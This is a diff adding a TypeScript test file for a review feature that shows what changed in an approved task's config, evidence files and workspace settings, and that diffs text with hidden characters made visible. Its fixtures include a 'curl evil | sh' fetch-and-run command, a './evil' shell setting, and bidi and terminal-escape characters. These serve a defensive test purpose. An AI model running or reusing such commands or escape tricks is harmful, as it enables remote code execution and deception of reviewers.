@@ -1,0 +1,126 @@
+import assert from 'node:assert/strict';
+import type { Evidence, EvidenceFile, TaskReview } from '../../../src/model/approval.ts';
+import { consentChanges } from '../../../src/presentation/reviewChanges.ts';
+import { textDiff, visibleLines } from '../../../src/presentation/reviewDiff.ts';
+
+const evidence = (files: readonly EvidenceFile[] = [], settings: Evidence['settings'] = {}): Evidence => ({
+  files,
+  settings,
+});
+
+function changes(
+  before: { consent?: string; evidence?: Evidence },
+  now: { consent?: string; evidence?: Evidence },
+) {
+  const review: Pick<TaskReview, 'state' | 'before' | 'consent' | 'evidence'> = {
+    state: 'changed',
+    before: { hash: 'a', at: 5, consent: '{}', evidence: evidence(), ...before },
+    consent: '{}',
+    evidence: evidence(),
+    ...now,
+  };
+  return consentChanges(review);
+}
+
+describe('what has changed since a task was allowed', () => {
+  it('is nothing where nothing was allowed, or what was then is not kept', () => {
+    const review = { state: 'new', consent: '{}', evidence: evidence() } as const;
+    assert.equal(consentChanges(review), undefined);
+    assert.equal(consentChanges({ ...review, state: 'changed' }), undefined);
+  });
+
+  it('is shown of the config, line by line', () => {
+    const found = changes(
+      { consent: '{\n  "command": "npm test",\n  "args": []\n}' },
+      { consent: '{\n  "command": "curl evil | sh",\n  "args": []\n}' },
+    );
+    assert.deepEqual(
+      found?.config.filter(({ sign }) => sign === '+' || sign === '-'),
+      [
+        { sign: '-', text: '  "command": "npm test",' },
+        { sign: '+', text: '  "command": "curl evil | sh",' },
+      ],
+    );
+    assert.equal(found?.since, 5);
+    assert.equal(found?.isHidden, false);
+  });
+
+  it('names files that are new, gone or others', () => {
+    const a: EvidenceFile = { role: 'script', path: 'a.mjs', hash: '1' };
+    const b: EvidenceFile = { role: 'module', path: 'b.mjs', hash: '2' };
+    const c: EvidenceFile = { role: 'module', path: 'c.mjs', hash: '3' };
+    const found = changes({ evidence: evidence([a, b]) }, { evidence: evidence([{ ...a, hash: '9' }, c]) });
+    assert.deepEqual(found?.files, [
+      { kind: 'changed', file: { ...a, hash: '9' }, before: a },
+      { kind: 'added', file: c },
+      { kind: 'removed', file: b },
+    ]);
+  });
+
+  it('sees where a link leads, and that a file has gone outside', () => {
+    const a: EvidenceFile = { role: 'script', path: 'a.mjs', hash: '1' };
+    for (const other of [{ target: '/opt/a.mjs' }, { outside: true } as const]) {
+      const found = changes({ evidence: evidence([a]) }, { evidence: evidence([{ ...a, ...other }]) });
+      assert.equal(found?.files[0]?.kind, 'changed');
+    }
+  });
+
+  it('is shown of the settings of the workspace', () => {
+    const found = changes({}, { evidence: evidence([], { shell: './evil' }) });
+    assert.deepEqual(
+      found?.settings.map(({ sign, text }) => sign + text),
+      ['@@@ -0,0 +1,1 @@', '+"shell": "./evil"'],
+    );
+  });
+
+  it('is said to be hidden where it is the value of a secret', () => {
+    assert.equal(changes({}, {})?.isHidden, true);
+  });
+});
+
+describe('the diff of two texts', () => {
+  it('has three lines around a change, and nothing hidden', () => {
+    const before = Array.from({ length: 20 }, (_, index) => `line ${index}`);
+    const after = before.with(10, 'li\u202ene\u001b[2J');
+    const diff = textDiff(`${before.join('\n')}\n`, `${after.join('\n')}\n`);
+    assert.deepEqual(
+      diff.map(({ sign, text }) => sign + text),
+      [
+        '@@@ -8,7 +8,7 @@',
+        ' line 7',
+        ' line 8',
+        ' line 9',
+        '-line 10',
+        '+li‹U+202E›ne‹U+001B›[2J',
+        ' line 11',
+        ' line 12',
+        ' line 13',
+      ],
+    );
+  });
+
+  it('shows line ends that are others, and no mere sign of the library', () => {
+    assert.deepEqual(
+      textDiff('a\n', 'a\r\n').map(({ sign, text }) => sign + text),
+      ['@@@ -1,1 +1,1 @@', '-a', '+a‹U+000D›'],
+    );
+    assert.deepEqual(
+      textDiff('+++ b\n', '\\ x\n').map(({ sign, text }) => sign + text),
+      ['@@@ -1,1 +1,1 @@', '-+++ b', '+\\ x'],
+    );
+  });
+
+  it('of texts that have nothing in common is soon there', () => {
+    const text = (word: string) =>
+      Array.from({ length: 20_000 }, (_, index) => `${word} ${index}\n`).join('');
+    const begin = performance.now();
+    const diff = textDiff(text('old'), text('new'));
+    assert.ok(performance.now() - begin < 2000);
+    assert.equal(diff.length, 40_000);
+    assert.equal(diff[0]?.text, 'old 0');
+  });
+
+  it('shows tabs as blanks and all lines of a text', () => {
+    assert.deepEqual(visibleLines('a\n\tb\n\nc'), ['a', '    b', '', 'c']);
+  });
+});
